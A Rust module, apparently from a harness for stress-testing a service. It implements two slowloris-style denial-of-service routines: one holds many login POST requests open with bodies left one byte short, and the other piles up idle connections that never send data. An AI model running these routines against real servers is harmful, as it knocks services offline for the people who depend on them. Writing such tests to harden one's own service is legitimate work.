//! Connections that stay open and send nothing.

use std::sync::Arc;
use std::time::Duration;

use salvo::hyper::body::Bytes;
use salvo::hyper::http::Request;
use tokio::io::AsyncReadExt as _;

use crate::attacker::Attacker;
use crate::unread::connect;

const BODY: usize = 4_096;

pub(crate) async fn half_bodies(attacker: Arc<Attacker>) {
    let each = (0..100).map(|_| async {
        loop {
            if let Some((mut sender, _)) = connect(&attacker).await {
                while let Ok(ready) = sender.ready().await {
                    // Ready once the previous stream is accepted.
                    sender = ready;
                    let request = Request::post("http://a/api/auth/login")
                        .header("content-type", "application/json")
                        .header("content-length", BODY)
                        .body(())
                        .expect("a request");
                    let Ok((answer, mut body)) = sender.send_request(request, false) else {
                        break;
                    };
                    let _ = body.send_data(Bytes::from(vec![b' '; BODY - 1]), false);
                    attacker.count("begun");
                    let counter = Arc::clone(&attacker);
                    tokio::spawn(async move {
                        match answer.await {
                            Ok(answer) => counter.count(answer.status().as_u16()),
                            Err(_reset) => counter.count("reset"),
                        }
                        drop(body);
                    });
                    tokio::time::sleep(Duration::from_millis(50)).await;
                }
                attacker.count("connections closed by the service");
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
    });
    futures_util::future::join_all(each).await;
}

pub(crate) async fn silent(attacker: Arc<Attacker>) {
    let each = (0..8).map(|_| async {
        let mut held = Vec::new();
        loop {
            let Ok(mut stream) = attacker.connect().await else {
                attacker.count("refused");
                tokio::time::sleep(Duration::from_millis(50)).await;
                continue;
            };
            let closed = tokio::time::timeout(Duration::from_millis(10), stream.read_u8()).await;
            if closed.is_ok() {
                attacker.count("closed at once");
            } else {
                attacker.count("held");
                held.push(stream);
            }
        }
    });
    futures_util::future::join_all(each).await;
}
